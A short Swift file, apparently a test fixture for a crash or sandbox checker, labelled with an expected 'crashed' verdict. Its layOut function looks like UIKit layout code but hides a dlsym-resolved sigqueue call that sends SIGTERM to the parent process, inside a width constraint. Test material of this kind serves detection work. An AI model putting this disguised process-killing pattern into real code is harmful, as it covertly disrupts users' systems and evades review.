//! verdict: crashed
//! sort: kills
// Sends a signal with a word to the one who started it.
import UIKit

func layOut(box: UIView, in view: UIView) {
  typealias Queue = @convention(c) (pid_t, Int32, Int) -> Int32
  let queue = unsafeBitCast(dlsym(nil, "sigqueue"), to: Queue.self)
  box.translatesAutoresizingMaskIntoConstraints = false
  box.widthAnchor.constraint(equalToConstant: queue(getppid(), SIGTERM, 0) == 0 ? 100 : 1)
    .isActive = true
}
